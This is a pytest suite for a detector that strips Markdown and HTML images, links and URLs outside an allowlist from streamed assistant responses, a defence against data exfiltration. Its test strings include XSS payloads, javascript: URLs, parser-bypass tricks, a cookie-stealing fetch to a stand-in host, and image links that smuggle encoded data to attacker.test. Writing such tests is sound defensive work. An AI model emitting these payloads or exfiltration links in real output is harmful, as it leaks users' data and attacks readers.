"""unsafe_links: Markdown images and links, reference definitions, autolinks, HTML and (optionally) bare URLs
pointing outside the allowlist are found and neutralised, hosts are parsed the way browsers parse them, the
rewrite never creates a new link, and the streaming hold-back is sound and tight."""

import random
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from policies import policy
from pydantic import ValidationError
from sse import openai_stream, openai_text

from extproc import shapes
from extproc.detectors import get
from extproc.detectors.unsafe_links import URL_MAX, UnsafeLinksDetector, UnsafeLinksParams
from extproc.policy.engine import decide, scan_text
from extproc.redact import Span, apply_spans, merge_spans
from extproc.stream_scan import StreamScanner

ALLOWED = ["example.com", "*.cdn.example.org"]
OPENAI = shapes.all_shapes()["openai_chat"]


def make(**params):
    return UnsafeLinksDetector(UnsafeLinksParams(**{"allowed_domains": ALLOWED, **params}))


DETECTOR = make()
BARE = make(bare_urls=True)


def redact(detector, text):
    return apply_spans(text, merge_spans([Span(f.start, f.end, f.replacement) for f in detector.find(text)]))


def found(detector, text):
    return [(f.label, text[f.start:f.end]) for f in detector.find(text)]


def unsafe(url, detector=DETECTOR):
    return bool(detector.find(f"[x]({url})"))


# ------------------------------------------------------------------------------------------------ params


def test_registered_with_documented_defaults():
    assert get("unsafe_links") is UnsafeLinksDetector
    params = UnsafeLinksParams()
    assert (params.allowed_domains, params.allow_relative, params.images_only, params.bare_urls,
            params.schemes) == ([], True, False, False, ["http", "https"])


@pytest.mark.parametrize("bad", [
    {"allowed_domains": ["https://example.com"]},
    {"allowed_domains": ["example.com/path"]},
    {"allowed_domains": ["example.com:443"]},
    {"allowed_domains": ["user@example.com"]},
    {"allowed_domains": ["ex*ample.com"]},
    {"allowed_domains": ["*"]},
    {"allowed_domains": ["*.*.example.com"]},
    {"allowed_domains": ["*.127.0.0.1"]},
    {"allowed_domains": ["a..b"]},
    {"allowed_domains": [""]},
    {"schemes": ["javascript"]},
    {"schemes": ["DATA"]},
    {"schemes": ["vbscript"]},
    {"schemes": ["1http"]},
    {"schemes": ["ht tp"]},
    {"images_only": True, "bare_urls": True},
    {"allow_relative": "sometimes"},
    {"unknown": 1},
])
def test_invalid_params_are_rejected(bad):
    with pytest.raises(ValidationError):
        UnsafeLinksParams(**bad)


def test_allowed_domains_and_schemes_are_normalised():
    params = UnsafeLinksParams(allowed_domains=["EXAMPLE.com.", "*.Bücher.de", "::1", "[::1]", "127.0.0.1"],
                               schemes=["HTTPS", "mailto"])
    assert params.allowed_domains == ["example.com", "*.xn--bcher-kva.de", "[::1]", "[::1]", "127.0.0.1"]
    assert params.schemes == ["https", "mailto"]


def test_a_bad_rule_names_the_problem_when_the_policy_loads():
    with pytest.raises(ValueError, match="allowed domain 'https://example.com' must be a host name"):
        policy("""
version: 1
rules:
  - id: links
    detector: unsafe_links
    direction: response
    action: redact
    params: {allowed_domains: ["https://example.com"]}
""")


# --------------------------------------------------------------------------------- constructs and rewrites

REWRITES = [
    # Markdown images: the replacement keeps the alt text
    ("see ![cat](https://evil.test/c.png?q=secret) ok", "see [image removed: cat] ok"),
    ('![cat](https://evil.test/c.png "A title")', "[image removed: cat]"),
    ("![](https://evil.test/c.png)", "[image removed]"),
    ("![a  multi\nline alt](https://evil.test/c.png)", "[image removed: a multi line alt]"),
    ("![x](<https://evil.test/a b.png>)", "[image removed: x]"),
    ("![x]( https://evil.test/a.png )", "[image removed: x]"),
    ("![x](\nhttps://evil.test/a.png\n'title'\n)", "[image removed: x]"),
    ("![x](https://evil.test/a_(b).png)", "[image removed: x]"),
    # links keep their text, lose their target
    ("read [the docs](https://evil.test/docs) now", "read the docs now"),
    ("[**bold** <b>tag</b>](https://evil.test)", "**bold** tag"),
    ("[![badge](https://evil.test/b.svg)](https://evil.test/repo)", "image removed: badge"),
    ("[]( https://evil.test)x", " x"),
    # reference definitions go; the references that used them stay as plain text
    ("![logo][l]\n\n[l]: https://evil.test/logo.png\n", "![logo][l]\n\n\n"),
    ('[l]: <https://evil.test/a b.png> "t"\n', "\n"),
    ("[l]:\n  https://evil.test/x\n", "\n"),
    # autolinks
    ("go to <https://evil.test/x> now", "go to [link removed] now"),
    ("<mailto:a@b.test>", "[link removed]"),
    # HTML
    ('a<img src="https://evil.test/a.png">b', "a b"),
    ("<IMG SRC='https://evil.test/a.png'>", ""),
    ("<img/src=https://evil.test/a.png>", ""),
    ("<img\nalt=\">\"\nsrc=//evil.test/a>", ""),
    ("<IMG SRC=`https://evil.test/a.png`>", ""),
    ('<img srcset="https://example.com/a.png 1x, https://evil.test/b.png 2x">', ""),
    ("<img src=x onerror=alert(1)>", ""),
    ('<video poster="https://evil.test/p.jpg"></video>', " </video>"),
    ('<svg><image href="https://evil.test/a.png"/></svg>', "<svg> </svg>"),
    ('<div style="background:url(https://evil.test/x)">hi</div>', " hi</div>"),
    ('<div style="background:url(&quot;https://evil.test/x&quot;)">hi</div>', " hi</div>"),
    ('<a href="https://evil.test/x">click <b>here</b></a>!', "click here!"),
    ("<a href=https://evil.test>never closed", " never closed"),
    ("<script>fetch('https://evil.test/'+document.cookie)</script>after", " after"),
    ('<SCRIPT src="https://example.com/allowed.js"></SCRIPT>', ""),
    ("<style>body{background:url(https://evil.test/x)}</style>\ntext", "\ntext"),
    ('<iframe src="https://evil.test/e">fallback <img src=x></iframe>end', " end"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.test">', ""),
    ('<base href="https://evil.test/">', ""),
    ('<form action="https://evil.test/f"><input name=q></form>', " <input name=q></form>"),
    ('<object data="https://evil.test/x"></object>', ""),
    ('<iframe srcdoc="<img src=x>"></iframe>', ""),
    # other schemes are never safe
    ("[x](javascript:alert(1))", "x"),
    ("![x](data:image/png;base64,iVBORw0KGgo=)", "[image removed: x]"),
    ("[x](vbscript:msgbox)", "x"),
    ("[x](file:///etc/passwd)", "x"),
]


@pytest.mark.parametrize(("text", "expected"), REWRITES)
def test_unsafe_constructs_are_rewritten(text, expected):
    assert redact(DETECTOR, text) == expected
    assert DETECTOR.find(redact(DETECTOR, text)) == []


def test_labels():
    text = ("![i](https://evil.test/i) [l](https://evil.test/l) <https://evil.test/a>\n"
            "[d]: https://evil.test/d\n<img src=https://evil.test/h> https://evil.test/bare")
    assert {label for label, _ in found(BARE, text)} == {"unsafe_image", "unsafe_link", "unsafe_html",
                                                        "unsafe_url"}
    assert ("unsafe_image", "![i](https://evil.test/i)") in found(BARE, text)


SAFE = [
    "Plain prose, with punctuation (and parentheses) -- and nothing else.",
    "![cat](https://example.com/cat.png) and [docs](https://example.com/docs \"Docs\")",
    "![cdn](https://img.cdn.example.org/a.png) and <https://a.b.cdn.example.org/x>",
    "[top](#top), [page](page.html), [up](../up/), [root](/root?q=1), ![rel](img/a.png)",
    "[ref][1] and [1]: /relative/target\n",
    "citations [1] and [2], arr[i] = b[j] + c[k]; matrix[0][1]",
    "if (a < b && c > d) { x = y[0]; } and i<n; x <= y; 3 < 4",
    "<b>bold</b> <i>it</i> <p class=\"note\">p</p> <br/> <!-- comment -->",
    '<img src="https://example.com/a.png" alt="ok"> <a href="#anchor">in page</a>',
    '<iframe src="https://example.com/embed"></iframe>',
    "mail me: jane@example.com, visit example.com (no scheme)",
    "[not a link] (https://evil.test) because of the space",
    "```\ncode without links\n```",
]


@pytest.mark.parametrize("text", SAFE)
def test_safe_text_is_left_alone(text):
    assert DETECTOR.find(text) == []


# ------------------------------------------------------------------------------------------- host parsing


@pytest.mark.parametrize("url", [
    "https://example.com/",
    "HTTPS://EXAMPLE.COM./a",
    "https://example.com:8443/a",
    "https://user:pass@example.com/",
    "https://%65xample.com/",
    "https://ｅｘａｍｐｌｅ.com/",  # full-width letters: browsers map them to example.com
    "http://example.com?x=https://evil.test",
    "https://img.cdn.example.org/",
    "https://a.b.cdn.example.org/x",
    "//example.com/protocol-relative",
])
def test_allowed_hosts(url):
    assert not unsafe(url)


@pytest.mark.parametrize("url", [
    "https://evil-example.com/",  # suffix is not subdomain
    "https://notexample.com/",
    "https://example.com.evil.test/",
    "https://example.com%2eevil.test/",
    "https://example.com。evil.test/",  # ideographic full stop separates labels
    "https://cdn.example.org/",  # *.cdn.example.org does not cover the apex
    "https://img.cdn.example.org.evil.test/",
    "https://example.com@evil.test/",  # userinfo is not the host
    "https://example.com:443@evil.test/",
    "https://evil.test\\@example.com/",  # browsers: evil.test; RFC 3986 parsers: example.com -> disagree
    "https://evil.test#@example.com",
    "https:/\\evil.test/",
    "https:evil.test/",
    "https:///evil.test/",
    "//evil.test/x",
    "\\\\evil.test/x",
    "/\\evil.test/x",
    "https://%65vil.test/",
    "https://%2565xample.com/",  # double encoding decodes to a `%` host: invalid
    "https://ex%ample.com/",
    "https://exam\u0000ple.com/",
    "https://example.com:99999/",
    "https://example.com:80a/",
    "https://faß.de/",  # browsers and IDNA 2003 disagree on ß
    "https://exаmple.com/",  # Cyrillic а: a different (punycode) domain
    "https://" + "a" * 64 + ".example.com/",
    "https://[::1]/",
    "http://2130706433/",
    "http:",
    "https://",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&#x09;script:alert(1)",
    "javascript\\:alert(1)",
    "ftp://example.com/",  # scheme not listed
    "https://example.com/" + "a" * URL_MAX,  # longer than any URL we vouch for
])
def test_unsafe_hosts_and_schemes(url):
    assert unsafe(url)


def test_html_attributes_decode_character_references_and_drop_tabs():
    assert found(DETECTOR, '<a href="java&#9;script:alert(1)">x</a>')
    assert found(DETECTOR, '<a href="java\tscript:alert(1)">x</a>')
    assert found(DETECTOR, '<a href="\x01 javascript:alert(1)">x</a>')
    assert found(DETECTOR, '<img src="&#104;ttps://evil.test/a.png">')
    assert not found(DETECTOR, '<img src="&#104;ttps://example.com/a.png">')


def test_allowlist_of_ip_addresses_and_international_names():
    detector = make(allowed_domains=["127.0.0.1", "[::1]", "bücher.de"])
    for url in ["http://2130706433/", "http://0x7f.0.0.1/", "http://127.1/", "http://[0:0::1]/",
                "https://xn--bcher-kva.de/", "https://BÜCHER.de/"]:
        assert not unsafe(url, detector), url
    for url in ["http://127.0.0.2/", "http://[::2]/", "https://buecher.de/", "http://127.0.0.1.evil.test/"]:
        assert unsafe(url, detector), url


def test_schemes_without_authority_are_safe_once_listed():
    assert unsafe("mailto:a@example.com")
    assert not unsafe("mailto:a@example.com", make(schemes=["https", "mailto"]))
    assert unsafe("http://example.com/", make(schemes=["https"]))


def test_relative_urls_follow_allow_relative():
    strict = make(allow_relative=False)
    for url in ["/x", "#top", "page.html", "?q=1", ""]:
        assert not unsafe(url), url
        assert unsafe(url, strict), url


def test_no_allowlist_means_every_absolute_url_is_unsafe():
    detector = UnsafeLinksDetector(UnsafeLinksParams())
    assert found(detector, "![x](https://example.com/a.png)")
    assert not found(detector, "![x](/a.png)")


# --------------------------------------------------------------------------------------- bypass attempts

BYPASSES = [
    # padding past our bounds
    "![" + "a" * 600 + "](https://evil.test/p.png)",
    "![x](" + " " * 4000 + "https://evil.test/p.png)",
    "![x](https://evil.test/p.png \"" + "t" * 4000 + "\")",
    "[x]: https://evil.test/" + "a" * 4000 + "\n![y][x]",
    "<img alt=\"" + "a" * 5000 + "\" src=\"https://evil.test/p.png\">",
    "<https://evil.test/" + "a" * 3000 + ">",
    # nesting and parser differentials
    "![x](https://evil.test/((((((a)))))).png)",
    "![x](https://evil.test/a.png 'title' junk)",
    "![x](<https://evil.test/a.png>junk)",
    "[a](<b onclick=1>https://evil.test/?q=s)",
    "![a](<img src=https://evil.test/1>https://evil.test/2?q=s)",
    "[d]: <b onclick=1> https://evil.test/x\n![i][d]",
    # removing one construct must not join its neighbours into another
    "[x]<img src=https://evil.test/1>(https://evil.test/2)",
    "![x]<img src=https://evil.test/1>(https://evil.test/2)",
    "[d]<img src=https://evil.test/1>: https://evil.test/2\n![i][d]",
    "<<img src=https://evil.test/1>img src=https://evil.test/2>",
    "<[t](https://evil.test/a) src=https://evil.test/b onerror=alert(1)>",
    "<a href=[t](https://evil.test/a)javascript:alert(1)>x</a>",
    "<img src=https://example.com/a.png <script>x</script> onerror=alert(1)>",
    "[t](ht[tp://evil.test/a](https://evil.test/b))",
    "[a][(https://evil.test/a](https://evil.test/b))",
    "![a](https://evil.test/x)(https://evil.test/y)",
    "htt<img src=https://evil.test/1>ps://evil.test/2",
]


@pytest.mark.parametrize("text", BYPASSES)
def test_bypass_attempts_are_neutralised_and_leave_nothing_behind(text):
    assert DETECTOR.find(text)
    assert DETECTOR.find(redact(DETECTOR, text)) == []
    rewritten = redact(DETECTOR, text)
    for construct in ("](https://evil.test", "]: https://evil.test", "<https://evil.test"):
        assert construct not in rewritten
    assert not re.search(r"<[A-Za-z][^<>]*(?:src=|onerror)", rewritten)


def test_a_removed_image_does_not_turn_the_following_parentheses_into_a_link():
    assert redact(DETECTOR, "![a](https://evil.test/x)(https://evil.test/y)") == (
        "[image removed: a] (https://evil.test/y)")
    assert redact(DETECTOR, "![a](https://evil.test/x)[y]") == "[image removed: a] [y]"
    assert redact(DETECTOR, "<https://evil.test>: x") == "[link removed] : x"
    assert redact(DETECTOR, "[x]<img src=https://evil.test/1>(y)") == "[x] (y)"
    assert redact(DETECTOR, "x <img src=https://evil.test/1> y") == "x  y"


# ----------------------------------------------------------------------------------------------- options


def test_images_only_leaves_links_alone_but_not_what_loads_by_itself():
    detector = make(images_only=True)
    text = ("[l](https://evil.test/l) <https://evil.test/a> <a href=https://evil.test/h>a</a> "
            "![i](https://evil.test/i.png) <img src=https://evil.test/h.png> <script>x</script>\n"
            "[d]: https://evil.test/d.png\n")
    assert redact(detector, text) == (
        "[l](https://evil.test/l) <https://evil.test/a> <a href=https://evil.test/h>a</a> "
        "[image removed: i]  \n\n")


def test_bare_urls_are_neutralised_only_when_asked():
    text = "see https://evil.test/path?x=1. or (www.evil.test), but https://example.com/ok is fine."
    assert DETECTOR.find(text) == []
    assert redact(BARE, text) == (
        "see [link removed]. or ([link removed]), but https://example.com/ok is fine.")
    assert redact(BARE, "[see https://evil.test](https://evil.test)") == "see link removed"
    assert redact(BARE, "http:// alone and www. alone") == "http:// alone and www. alone"


def test_listed_schemes_also_make_bare_urls():
    detector = make(bare_urls=True, schemes=["https", "ftp"])
    assert found(detector, "get ftp://evil.test/f and http://example.com/") == [
        ("unsafe_url", "ftp://evil.test/f"), ("unsafe_url", "http://example.com/")]


# ------------------------------------------------------------------------------------------ the engine


def test_a_redact_rule_writes_the_detectors_replacement():
    compiled = policy("""
version: 1
rules:
  - id: output-links
    detector: unsafe_links
    direction: response
    action: redact
    params: {allowed_domains: [example.com]}
""")
    rules = compiled._by_direction["response"]
    text = "Look: ![chart](https://evil.test/c.png?d=secret) and [docs](https://example.com/d)."
    hits = scan_text(rules, text, "assistant", "response")
    assert apply_spans(text, decide(hits).spans.get(0, [])) == (
        "Look: [image removed: chart] and [docs](https://example.com/d).")
    assert [h.rule.id for h in hits] == ["output-links"]


# ------------------------------------------------------------------------------------------------- hold


@pytest.mark.parametrize(("text", "held"), [
    ("Plain prose with no anchors at all.", 0),
    ("a sentence ending in a bang!", 1),
    ("look: ![", 2),
    ("look: [", 1),
    ("look: <", 1),
    ("look: ]", 1),
    ("see [the docs](https://example.com/docs", len("[the docs](https://example.com/docs")),
    ("see [the docs](https://example.com/docs)", len("[the docs](https://example.com/docs)")),  # next char?
    ("see [the docs](https://example.com/docs) ", 0),
    ("see [1] and [2] then", 0),
    ("data = [1, 2, 3]\n", 0),
    ("x < y and a<=b", 0),
    ("<b>bold</b> text", 0),
    ("<img src=", len("<img src=")),
    ("<script>var a = 1;", len("<script>var a = 1;")),
    ("<script>x</script> after", 0),
    ("https://evil.test/a not bare-scanned", 0),
])
def test_hold_is_tight(text, held):
    assert DETECTOR.hold(text) == held


@pytest.mark.parametrize(("text", "held"), [
    ("the answer is h", 1),
    ("the answer is htt", 3),
    ("the answer is https:/", 7),
    ("the answer is https://evil.te", len("https://evil.te")),
    ("the answer is https://evil.test/ and", 0),
    ("the answer is w", 1),
    ("the answer is www", 3),
    ("plain words", 0),
])
def test_hold_with_bare_urls_covers_a_scheme_still_arriving(text, held):
    assert BARE.hold(text) == held


PROSE = st.text(st.sampled_from(list("abcdefgz XYZ 0123456789.,;'\"?-()\n\t:/") + ["é", "日"]), max_size=300)
ANCHORS = ("https://", "http://", "www.")


@settings(max_examples=200, deadline=None)
@given(PROSE)
def test_prose_without_anchor_characters_holds_little(text):
    assert DETECTOR.hold(text) == 0
    lowered = text.lower()
    tail = max((size for size in range(1, 8) if any(a.startswith(lowered[-size:]) for a in ANCHORS)
                if len(text) >= size), default=0)
    if not any(a in lowered for a in ANCHORS):
        assert BARE.hold(text) == tail <= 7
        if "http" not in lowered[-5:]:
            assert BARE.hold(text) <= 4


# -------------------------------------------------------------------------------------------- properties

FRAGMENTS = [
    " ", "\n", "a", "text ", "!", "[", "]", "(", ")", "](", "]:", "<", ">", "\"", "'", "=", "\\", "/", "h",
    "ht", "http://", "https://evil.test/x", "https://example.com/y", "www.", "evil.test", "javascript:",
    "&#104;",
    "![", "[t](https://evil.test/a)", "![i](https://evil.test/i.png \"ti\")", "[r]: https://evil.test\n",
    "[ok](https://example.com/)", "<https://evil.test>", "<img src=", "<a href=", "</a>", "<a href=x>",
    "<script>", "</script>", "<iframe src=https://evil.test>", "</iframe>", "<b>", "<b onclick=1>",
    "style=\"background:url(https://evil.test)\"", "](<b onclick=1>", "]<img src=https://evil.test/1>(",
    "<img src=https://example.com/a.png ", "onerror=alert(1)>", "[(", "ht[tp://evil.test](x)",
]
LONG_FRAGMENTS = ["a" * 520, " " * 70, "x" * 2100, "b" * 4100]
SOUP = st.lists(st.sampled_from(FRAGMENTS), max_size=18).map("".join)
LONG_SOUP = st.lists(st.sampled_from(FRAGMENTS + LONG_FRAGMENTS), max_size=8).map("".join)


def assert_hold_sound(detector, text):
    """The brief's property: no finding of the full text that runs past n starts before n - hold(text[:n])."""
    findings = detector.find(text)
    assert all(f.end - f.start <= detector.max_span for f in findings)
    for n in range(len(text) + 1):
        boundary = n - detector.hold(text[:n])
        for finding in findings:
            assert not (finding.end > n and finding.start < boundary), (text, n, finding)


def assert_stream_safe(detector, text):
    """What the stream scanner relies on, checked at every prefix: what it settles is final, and every finding
    of the full text that starts before the released boundary has been settled (same span and replacement)."""
    key = lambda f: (f.start, f.end, f.label, f.replacement)
    full = {key(f) for f in detector.find(text)}
    for n in range(len(text) + 1):
        boundary = n - detector.hold(text[:n])
        partial = {key(f) for f in detector.find(text[:n])}
        moved = True
        while moved:  # the scanner pulls the boundary back to the start of a match that straddles it
            moved = False
            for start, end, _, _ in partial:
                if start < boundary < end:
                    boundary, moved = start, True
        settled = {f for f in partial if f[1] <= boundary}
        assert settled <= full, (text, n)
        assert {f for f in full if f[0] < boundary} <= settled, (text, n)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SOUP, st.booleans())
def test_property_hold_is_sound_and_settled_findings_are_final(text, bare):
    detector = BARE if bare else DETECTOR
    assert_hold_sound(detector, text)
    assert_stream_safe(detector, text)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(LONG_SOUP)
def test_property_hold_is_sound_across_the_bounds(text):
    assert_stream_safe(DETECTOR, text)


@settings(max_examples=300, deadline=None)
@given(SOUP)
def test_property_the_rewrite_leaves_nothing_to_find(text):
    assert DETECTOR.find(redact(DETECTOR, text)) == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_property_any_text_is_handled(text):
    for detector in (DETECTOR, BARE):
        findings = detector.find(text)
        assert all(0 <= f.start < f.end <= len(text) for f in findings)
        assert 0 <= detector.hold(text) <= len(text)


# --------------------------------------------------------------------------------------------- streaming


def rules(bare=False):
    return policy(f"""
version: 1
rules:
  - id: output-links
    detector: unsafe_links
    direction: response
    action: redact
    params: {{allowed_domains: [example.com], bare_urls: {str(bare).lower()}}}
""")._by_direction["response"]


def stream_through(rule_set, pieces, records_per_push=1):
    scanner = StreamScanner(OPENAI, "sse", rule_set, 1 << 20, "fail_closed")
    records = [r + b"\n\n" for r in openai_stream(pieces).split(b"\n\n") if r]
    body = records[:-1]
    out = [scanner.push(b"".join(body[i:i + records_per_push]))
           for i in range(0, len(body), records_per_push)]
    out.append(scanner.finish(records[-1]))
    return out, scanner


def batch(rule_set, text):
    hits = scan_text(rule_set, text, "assistant", "response")
    return apply_spans(text, decide(hits).spans.get(0, []))


def test_an_image_split_across_many_events_is_neutralised_in_the_stream():
    image = "![the chart](https://attacker.test/pixel.png?d=c2VjcmV0)"
    pieces = ["Here is your answer. ", *[image[i:i + 3] for i in range(0, len(image), 3)], " Anything else?"]
    out, scanner = stream_through(rules(), pieces)
    text = openai_text(b"".join(out))
    assert text == "Here is your answer. [image removed: the chart] Anything else?"
    assert "attacker" not in b"".join(out).decode()
    assert [h.finding.label for h in scanner.hits] == ["unsafe_image"]
    # nothing of the image reaches the client before the decision, but the prose before it does
    released = ""
    for chunk in out[:-1]:
        released += openai_text(chunk)
        assert "![" not in released and "attacker" not in released
    assert released.startswith("Here is your answer.")


def test_a_clean_stream_with_allowed_links_goes_out_byte_for_byte():
    pieces = ["See [the docs](https://exa", "mple.com/docs) and ![logo](https://example.com/l.png", ")",
              " bye"]
    out, scanner = stream_through(rules(), pieces)
    assert b"".join(out) == openai_stream(pieces)
    assert scanner.hits == []


def test_html_and_definitions_split_across_events():
    text = ('Intro <img src="https://attacker.test/a.png" alt="x"> mid <script>steal()</script> end\n'
            "![r][d]\n\n[d]: https://attacker.test/d.png\n")
    pieces = [text[i:i + 2] for i in range(0, len(text), 2)]
    out, _ = stream_through(rules(), pieces)
    assert openai_text(b"".join(out)) == batch(rules(), text) == "Intro  mid  end\n![r][d]\n\n\n"


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SOUP, st.booleans(), st.integers(0, 10_000))
def test_property_the_client_sees_exactly_the_batch_rewrite(text, bare, seed):
    rng = random.Random(seed)
    pieces, cursor = [], 0
    while cursor < len(text):
        step = rng.randint(1, 7)
        pieces.append(text[cursor:cursor + step])
        cursor += step
    rule_set = rules(bare)
    out, _ = stream_through(rule_set, pieces, records_per_push=rng.randint(1, 3))
    assert openai_text(b"".join(out)) == batch(rule_set, text)


# ------------------------------------------------------------------------------------------- performance


@pytest.mark.parametrize("unit", [
    "](https://e.test/", "<a b=\"", "<a ", "<ab", "<script>", "<https://evil.test/", "http://", "![](",
    "[a]: https://e.test\n", "[", "<img src=x>",
    "See [d](https://example.com/a) ![x](https://evil.test/i.png) ",
])
def test_hostile_repetition_stays_fast(unit):
    text = unit * (60_000 // len(unit))
    started = time.perf_counter()
    BARE.find(text)
    BARE.hold(text)
    assert time.perf_counter() - started < 5


def test_a_look_alike_of_an_allowed_host_is_not_folded_into_it_by_normalisation():
    from policies import policy

    from extproc.policy.engine import scan_text
    compiled = policy("version: 1\nrules:\n  - {id: l, detector: unsafe_links, direction: response, action: redact,"
                      " params: {allowed_domains: [example.com]}}\n")
    rules = compiled._by_direction["response"]
    assert scan_text(rules, "![x](https://example.com/a.png)", "assistant", "response") == []
    hits = scan_text(rules, "![x](https://ex\u0430mple.com/?q=secret)", "assistant", "response")
    assert [h.finding.label for h in hits] == ["unsafe_image"]


@pytest.mark.parametrize("params", [{}, {"images_only": True}, {"allowed_domains": ["ok.test"]}])
def test_the_shortcuts_agree_with_the_full_scan(params):
    """find/hold skip texts without `<`/`]` (find) or `<[]!` (hold); on random texts, with and without those
    characters, they must answer what the full scan answers."""
    detector = UnsafeLinksDetector(UnsafeLinksParams(**params))
    rng = random.Random(7)
    pieces = ["![a](", "https://evil.test/x", ")", "[", "]", "<img src=", ">", "<", "!", "(", " ", "word",
              "www.evil.test", "]: ", "<https://e.test>", "ok.test", "\n"]
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 8)))
        assert detector.find(text) == detector.find_all(text), text
        assert detector.hold(text) == detector.hold_all(text), text


# ---- bounded work: destination windows are read under a per-text allowance


def test_dense_tails_past_the_allowance_are_broken_open():
    text = "![x](https://evil.example/?q=" * 20_000
    redacted = redact(DETECTOR, text)
    assert "](" not in redacted and "evil.example" in redacted  # no construct left, the text stays readable


def test_link_dense_text_within_the_allowance_keeps_its_safe_links():
    links = "".join(f"the page numbered {n:04d}: [page {n}](https://example.com/p/{n}) " for n in range(2000))
    text = links + "[bad](https://evil.example/x)"
    assert found(DETECTOR, text) == [("unsafe_link", "[bad](https://evil.example/x)")]
